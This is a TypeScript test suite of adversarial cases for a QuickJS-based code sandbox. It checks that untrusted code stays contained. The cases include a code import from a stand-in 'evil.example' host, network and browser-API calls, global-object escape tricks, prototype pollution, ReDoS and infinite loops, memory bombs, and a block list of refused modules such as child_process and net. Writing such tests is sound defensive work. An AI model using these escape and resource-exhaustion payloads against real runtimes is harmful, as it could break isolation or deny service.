/**
 * Untrusted code (a shared link may carry anything): every escape attempt ends inside the
 * environment's own QuickJS context with an exact, reported outcome, and the next environment is
 * unaffected. Vitest runs these cases in Node (../adversarial.test.ts); the sandbox check page runs
 * them in a browser worker (src/sandboxCheck). Cases run in order: some break and replace the wasm module.
 */
import { sandboxMessage, type SandboxMessageKey } from '../errors.ts'
import { contextFor, payloadOf, runInvoke } from '../testing/fakeHost.ts'
import { below, equals, lacks, matches, type Check } from './expectations.ts'
import { WATCHDOG_MS, type AdversarialCase, type CaseSandbox } from './runner.ts'

/** Runs `attempt` (an expression or statements) and reports what it threw: [name, message]. */
const thrown = (attempt: string) => `exports.handler = async () => { try { ${attempt}; return "no error" } catch (e) { return [e.name, e.message] } }\n`

const success = (value: unknown) => ({ type: 'success', payload: JSON.stringify(value) })

/** Cases of one group: `[name, run]` pairs. */
function group(title: string, cases: ReadonlyArray<readonly [string, (sandbox: CaseSandbox) => Check[] | Promise<Check[]>]>): AdversarialCase[] {
  return cases.map(([name, run]) => ({ group: title, name, run }))
}

const NETWORK_ATTEMPTS = ['fetch("https://example.com")', 'new XMLHttpRequest()', 'new WebSocket("wss://example.com")', 'new EventSource("/x")', 'importScripts("https://example.com/x.js")']
const BROWSER_NAMES = ['localStorage', 'sessionStorage', 'indexedDB', 'document', 'window', 'navigator', 'location', 'caches']
const REFUSED_MODULES: ReadonlyArray<readonly [string, SandboxMessageKey]> = [
  ['http', 'moduleNoNetwork'], ['https', 'moduleNoNetwork'], ['net', 'moduleNoNetwork'], ['dns', 'moduleNoNetwork'],
  ['child_process', 'moduleNoProcesses'], ['worker_threads', 'moduleNoProcesses'], ['vm', 'moduleNoProcesses'], ['zlib', 'moduleUnavailable'],
]

const noNetworkNoBrowser = group('no network, no browser', [
  ...NETWORK_ATTEMPTS.map((attempt) => [attempt, (s: CaseSandbox) => {
    const name = attempt.replace(/^new /, '').replace(/\(.*$/, '')
    const payload = payloadOf({ outcome: s.invokeOnce(thrown(attempt)) ?? { type: 'crash', message: '' }, memoryUsedMb: 0, elapsedMs: 0 })
    return [equals('what it threw', payload, ['Error', sandboxMessage('noNetwork', name)])]
  }] as const),
  ...BROWSER_NAMES.map((name) => [name, (s: CaseSandbox) => [
    equals('outcome', s.invokeOnce(thrown(`${name}.anything`)), success(['ReferenceError', sandboxMessage('noBrowser', name)])),
  ]] as const),
  ['a dynamic import of a URL, from a module, from CommonJS and from evaluated code', (s) => {
    const url = 'https://evil.example/x.mjs'
    const attempt = `try { await import("${url}") } catch (e) { return e.message }`
    const refused = success(sandboxMessage('urlImport', url))
    const fromCommonJs = s.invokeOnce(`exports.handler = async () => { ${attempt} }\n`)
    const module = s.bootFiles({ 'index.mjs': `export const handler = async () => { ${attempt} }\n` })
    return [
      equals('from CommonJS', fromCommonJs, refused),
      equals('from a module', runInvoke(module.env, module.host)?.outcome, refused),
      equals('from evaluated code', s.invokeOnce(`exports.handler = async () => { try { await eval('import("${url}")') } catch (e) { return e.message } }\n`), refused),
    ]
  }],
  ...REFUSED_MODULES.map(([name, key]) => [`require("${name}")`, (s: CaseSandbox) => [
    equals('outcome', s.invokeOnce(thrown(`require("node:${name}")`)), success(['Error', sandboxMessage(key, name)])),
  ]] as const),
])

const HOST_NAMES = ['hostResolve', 'hostCompile', 'hostReadFile', 'hostMemoryBytes', 'configJson', 'internals', 'require', 'module', 'exports']
const GLOBAL_TRICKS = [
  ['globalThis', 'globalThis'],
  ['sloppy this', '(function () { return this })()'],
  ['constructor.constructor', '({}).constructor.constructor("return this")()'],
  ['Function', 'Function("return this")()'],
  ['indirect eval', '(0, eval)("this")'],
  ['async constructor', 'await (async () => {}).constructor("return this")()'],
] as const

const globalObject = group('the global object is QuickJS\'s own and holds nothing of the host', [
  ...GLOBAL_TRICKS.map(([label, expression]) => [label, (s: CaseSandbox) => {
    const code = `exports.handler = async () => { const g = ${expression}; return [g === globalThis, Object.getOwnPropertyNames(g).filter((n) => ${JSON.stringify(HOST_NAMES)}.includes(n))] }\n`
    return [equals('[is the sandbox\'s global, host names on it]', s.invokeOnce(code), { type: 'success', payload: '[true,[]]' })]
  }] as const),
  ['a function\'s caller does not reach the runtime\'s functions', (s) => {
    const outcome = s.invokeOnce('exports.handler = function handler() { try { return String(handler.caller) } catch (e) { return e.name } }\n')
    return [matches('outcome', outcome, { type: 'success' }), lacks('handler.caller', outcome?.type === 'success' ? outcome.payload : undefined, /hostResolve|jsonParse|phaseSeq/)]
  }],
  ['__lambdaPlayground cannot be replaced or deleted', (s) => {
    const code = 'exports.handler = async () => { const before = __lambdaPlayground; try { __lambdaPlayground = {} } catch (e) {} try { delete globalThis.__lambdaPlayground } catch (e) {} return [before === __lambdaPlayground, Object.keys(globalThis).includes("__lambdaPlayground"), typeof __lambdaPlayground.awsCall] }\n'
    return [equals('[unchanged, enumerable, awsCall]', s.invokeOnce(code), { type: 'success', payload: '[true,false,"function"]' })]
  }],
  ['eval and new Function are QuickJS\'s own and harmless', (s) => [
    equals('outcome', s.invokeOnce('exports.handler = async () => [eval("1 + 1"), new Function("a", "b", "return a * b")(6, 7)]\n'), { type: 'success', payload: '[2,42]' }),
  ]],
  ['process has no binding, dlopen or kill', (s) => [
    equals('outcome', s.invokeOnce('exports.handler = async () => [typeof process.binding, typeof process.dlopen, typeof process.kill, typeof process.mainModule]\n'),
      { type: 'success', payload: '["undefined","undefined","undefined","undefined"]' }),
  ]],
])

const prototypePollution = group('prototype pollution stays in its environment', [
  ['polluting Object, Array, JSON, Promise and timers in one environment leaves the next one clean', (s) => {
    const polluter = s.start([
      'Object.prototype.polluted = "yes"',
      'Array.prototype.push = function () { return -1 }',
      'JSON.stringify = () => "\\"hacked\\""',
      'JSON.parse = () => ({ hacked: true })',
      'Promise.prototype.then = function () { throw new Error("no then") }',
      'globalThis.setTimeout = () => 0',
      'exports.handler = async (event) => ({ got: event.n, polluted: ({}).polluted })',
    ].join('\n'))
    return [
      // The polluter's own runtime keeps working: it captured what it needs.
      equals('the polluter', payloadOf(runInvoke(polluter.env, polluter.host, { n: 1 })), { got: 1, polluted: 'yes' }),
      equals('the next environment', s.invokeOnce('exports.handler = async () => [({}).polluted, [].push(1), JSON.stringify({ a: 1 }), typeof setTimeout(() => {}, 1)]\n'),
        { type: 'success', payload: '[null,1,"{\\"a\\":1}","object"]' }),
    ]
  }],
])

const WATCHDOG = { type: 'watchdog' }

const runaway = group('runaway code is stopped by the watchdog', [
  ['while (true) {} in a handler: watchdog, after the log lines it wrote', (s) => {
    const { env, host } = s.start('exports.handler = async () => { console.log("before"); while (true) {} }\n')
    const started = s.now()
    const outcome = runInvoke(env, host)?.outcome
    const elapsedMs = s.now() - started
    return [
      equals('outcome', outcome, WATCHDOG),
      below('real milliseconds', elapsedMs, WATCHDOG_MS * 20),
      equals('log lines', host.logs.map((line) => line.message), ['before']),
      // The environment is over; the next one works.
      equals('the next invocation', runInvoke(env, host)?.outcome, WATCHDOG),
      equals('a new environment', s.healthy(), 42),
    ]
  }],
  ['an endless loop at module scope stops init', (s) => [
    equals('init', s.start('for (;;) {}\nexports.handler = async () => 1\n').init?.outcome, WATCHDOG),
    equals('a new environment', s.healthy(), 42),
  ]],
  ['an endless loop in a timer callback, in a getter while serialising, and in a regular expression', (s) => [
    equals('timer callback', s.invokeOnce('exports.handler = async () => { await new Promise((r) => setTimeout(r, 10)); for (;;) {} }\n'), WATCHDOG),
    equals('getter', s.invokeOnce('exports.handler = async () => ({ get spin() { for (;;) {} } })\n'), WATCHDOG),
    equals('regular expression', s.invokeOnce('exports.handler = async () => /(a+)+$/.test("a".repeat(64) + "!")\n'), WATCHDOG),
    equals('a new environment', s.healthy(), 42),
  ]],
  ['catching does not help: the interrupt cannot be caught', (s) => [
    equals('outcome', s.invokeOnce('exports.handler = async () => { for (let i = 0; i < 1e9; i++) { try { while (true) {} } catch (e) {} } }\n'), WATCHDOG),
  ]],
  ['the watchdog is never longer than the function timeout', (s) => {
    const { env, host } = s.start('exports.handler = async () => { while (true) {} }\n', { timeoutMs: 1000 })
    return [equals('outcome', runInvoke(env, host)?.outcome, WATCHDOG)]
  }],
  ['a flood of log lines is stopped and capped', (s) => {
    const { env, host } = s.start('exports.handler = async () => { for (;;) console.log("spam") }\n')
    return [
      equals('outcome', runInvoke(env, host)?.outcome, WATCHDOG),
      equals('log lines kept', host.logs.length, 10_001),
      equals('last log line', host.logs.at(-1)?.message, /^\d+ more log lines were dropped: Lambda Playground keeps 10000 per run of code$/),
    ]
  }],
])

const stack = group('the stack', [
  ['deep recursion and deeply nested JSON.parse are catchable errors (QuickJS checks its stack)', (s) => [
    matches('recursion', s.invokeOnce('const f = (n) => f(n + 1)\nexports.handler = async () => f(0)\n'), { type: 'error', errorType: 'RangeError', errorMessage: 'Maximum call stack size exceeded' }),
    equals('JSON.parse', s.invokeOnce(thrown('JSON.parse("[".repeat(100000) + "]".repeat(100000))')), { type: 'success', payload: '["SyntaxError","stack overflow"]' }),
    equals('a new environment', s.healthy(), 42),
  ]],
  ['deeply nested JSON.stringify overflows the host\'s wasm stack: the environment is out of memory, the module is replaced', async (s) => {
    const bystander = s.start('exports.handler = async () => "still here"\n')
    const overflow = s.invokeOnce(thrown('const o = {}; let p = o; for (let i = 0; i < 100000; i++) p = p.next = {}; JSON.stringify(o)'))
    // Another environment on the broken module reports a crash on its next call...
    const bystanderOutcome = runInvoke(bystander.env, bystander.host)?.outcome
    bystander.env.dispose()
    // ...and new environments run on a fresh module.
    const fresh = s.healthy()
    await s.runtime.settled()
    return [
      equals('outcome', overflow, { type: 'out-of-memory' }),
      matches('another environment', bystanderOutcome, { type: 'crash', message: /^Runtime exited with error: signal: killed/ }),
      equals('a new environment', fresh, 42),
    ]
  }],
])

const BOMBS = [
  ['an array of objects', 'const keep = []; for (;;) keep.push({ i: keep.length, s: "x" + keep.length })'],
  ['typed arrays', 'const keep = []; for (;;) keep.push(new Uint8Array(1 << 20))'],
  ['one huge buffer', 'new ArrayBuffer(512 * 1024 * 1024)'],
  ['strings that are caught and kept', 'const keep = []; for (;;) { try { keep.push("y".repeat(1 << 20) + keep.length) } catch (e) {} }'],
  ['a timer that allocates', 'const keep = []; setInterval(() => keep.push(new Float64Array(1 << 18)), 1); await new Promise(() => {})'],
] as const

const memoryBombs = group('memory bombs end in out-of-memory, and the next environment works', [
  ...BOMBS.map(([label, bomb]) => [label, async (s: CaseSandbox) => {
    // A 15 s timeout leaves the patient 10 s watchdog in charge: a slow browser must still reach the memory cap.
    const { env, host } = s.start(`exports.handler = async () => { ${bomb} }\n`, { memoryMb: 128, timeoutMs: 15_000 }, s.patient)
    const result = runInvoke(env, host)
    env.dispose()
    const fresh = s.healthy(s.patient)
    // A module left bloated is replaced by a fresh one, loaded in the background.
    await s.patient.settled()
    return [equals('outcome', result?.outcome, { type: 'out-of-memory' }), equals('memory used (MB)', result?.memoryUsedMb, 128), equals('a new environment', fresh, 42)]
  }] as const),
  ['a doubling string stops at the longest string, as in Node.js (a RangeError)', (s) => [
    matches('outcome', s.invokeOnce('exports.handler = async () => { let s = "x"; for (;;) s += s }\n', {}, { memoryMb: 128 }), { type: 'error', errorType: 'RangeError', errorMessage: 'Invalid string length' }),
  ]],
  ['memory held across invocations beyond the cap is out-of-memory too', (s) => {
    const { env, host } = s.start('const keep = []\nexports.handler = async () => { for (let i = 0; i < 8; i++) keep.push(new Uint8Array(1 << 20)); return keep.length }\n', { memoryMb: 128 }, s.patient)
    const outcomes: string[] = []
    for (let i = 0; i < 12 && outcomes.at(-1) !== 'out-of-memory'; i++) outcomes.push(runInvoke(env, host)?.outcome.type ?? 'none')
    // 64 MB of user heap: eight invocations of 8 MB, then the ninth is over.
    return [equals('outcomes', outcomes, ['success', 'success', 'success', 'success', 'success', 'success', 'success', 'out-of-memory'])]
  }],
])

const UNSERIALISABLE = { type: 'error', errorMessage: 'Unable to stringify response body' }

const fightingResults = group('results that fight back', [
  ['cyclic objects, throwing getters and toJSON', (s) => [
    matches('a cyclic array', s.invokeOnce('exports.handler = async () => { const a = []; a.push(a); return a }\n'), UNSERIALISABLE),
    matches('a throwing getter', s.invokeOnce('exports.handler = async () => ({ get x() { throw new Error("getter") } })\n'), UNSERIALISABLE),
    matches('toJSON throwing a string', s.invokeOnce('exports.handler = async () => ({ toJSON() { throw "nope" } })\n'), UNSERIALISABLE),
  ]],
  ['an error whose name and message are getters that throw', (s) => {
    const code = 'exports.handler = async () => { const e = new Error("x"); Object.defineProperty(e, "message", { get() { throw 1 } }); throw e }\n'
    return [equals('outcome', s.invokeOnce(code), { type: 'error', errorType: 'handled', errorMessage: /^callback called with Error argument/, trace: [] })]
  }],
  ['a thenable that never calls back, and a promise that never settles, can be disposed', (s) => {
    const { env, host } = s.start('exports.handler = async () => { setInterval(() => {}, 1000); return new Promise(() => {}) }\n')
    env.invoke('{}', contextFor(host, { awsRequestId: 'r', invokedFunctionArn: 'arn' }), () => { throw new Error('must not answer') })
    host.advance(5000)
    env.dispose()
    return [equals('timers left', host.pendingTimers, 0), equals('a new environment', s.healthy(), 42)]
  }],
])

const REJECTED_WITH = { type: 'crash', message: 'Runtime exited with error: exit status 128', error: { errorType: 'Runtime.UnhandledPromiseRejection' } }

const fightingRejections = group('unhandled rejections that fight back', [
  ['a rejection reason whose toString throws, and a cyclic one, are still reported', (s) => [
    matches('toString throws', s.invokeOnce('exports.handler = async () => { Promise.reject({ toString() { throw new Error("no") } }); return 1 }\n'),
      { ...REJECTED_WITH, error: { ...REJECTED_WITH.error, errorMessage: '' } }),
    matches('cyclic', s.invokeOnce('exports.handler = async () => { const a = {}; a.self = a; Promise.reject(a); return 1 }\n'),
      { ...REJECTED_WITH, error: { ...REJECTED_WITH.error, errorMessage: '[object Object]' } }),
  ]],
  ['replacing WeakMap, Promise and Promise.prototype.constructor does not blind the tracker', (s) => {
    const code = [
      'WeakMap.prototype.get = () => { throw new Error("no get") }',
      'WeakMap.prototype.set = () => { throw new Error("no set") }',
      'const Original = Promise',
      'Object.defineProperty(Promise.prototype, "constructor", { value: Original, writable: true, configurable: true })',
      'globalThis.Promise = function Fake() {}',
      'exports.handler = async () => { await 1; Original.reject(new Error("still seen")); return "ok" }',
    ].join('\n')
    return [
      matches('outcome', s.invokeOnce(`${code}\n`), { ...REJECTED_WITH, error: { ...REJECTED_WITH.error, errorMessage: 'Error: still seen' } }),
      equals('a new environment', s.healthy(), 42),
    ]
  }],
])

export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
  ...noNetworkNoBrowser, ...globalObject, ...prototypePollution, ...runaway, ...stack, ...memoryBombs, ...fightingResults, ...fightingRejections,
]
